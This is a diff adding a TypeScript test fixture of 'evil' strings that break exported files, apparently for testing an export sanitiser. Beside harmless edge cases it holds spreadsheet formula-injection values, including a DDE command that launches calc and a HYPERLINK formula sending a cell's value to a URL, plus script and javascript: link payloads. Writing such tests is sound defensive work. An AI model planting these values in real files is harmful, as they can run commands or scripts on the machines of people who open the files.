@@ -1,0 +1,37 @@
+// Texts that break files: each has broken one somewhere. What a format may change of them, `exportText` changes first.
+
+const long = (character: string, count: number): string => character.repeat(count)
+
+export const EVIL: Record<string, string> = {
+  'double quotes': 'He said "no" and ""never""',
+  'single quote first': "'quoted",
+  commas: 'a,b;c\td',
+  'new lines': 'first\nsecond\r\nthird\rfourth',
+  formula: '=1+1',
+  hyperlink: '=HYPERLINK("https://example.invalid/?q="&A1,"click")',
+  'command of old Excel': "=cmd|' /C calc'!A0",
+  plus: '+1234',
+  minus: '-2+3',
+  at: '@SUM(1,2)',
+  'full-width equals': '＝1+1',
+  'full-width plus and minus': '＋1－1＠',
+  'space before a formula': '  =1+1',
+  'no-break and zero-width space before a formula': '\u00A0\u200B\uFEFF=1+1',
+  'tab first': '\t=1+1',
+  'carriage return first': '\r=1+1',
+  'line feed first': '\n=1+1',
+  'percent and pipe': '%TEMP%|calc',
+  'control characters': 'a\u0000b\u0007c\u001Fd\u007Fe',
+  'lone surrogates': 'x\uD800y\uDC00z',
+  'no characters of XML': 'a\uFFFEb\uFFFFc',
+  'XML and HTML': '</a:t></w:t><script>alert(1)</script>&amp;<!-- ]]> -->',
+  'words of 40 characters': `${long('W', 40)} ${long('あ', 40)}`,
+  'a note of 5,000 characters': long('長い注記。', 1000),
+  'right to left': 'שלום ‮abc‬ مرحبا',
+  emoji: '👩‍👩‍👧‍👦 🇯🇵 ☑️ 👍🏽',
+  'rare kanji': '髙﨑𠮷 𠮟る 塚󠄀 か゚',
+  'escape of Excel': '_x0041_ _x000D_',
+  markdown: '# **x** [a](javascript:alert(1)) | `b` 1. - ~~c~~ ![d](e)',
+  'looks like a number or a date': '1-2',
+  zeros: '00123',
+}
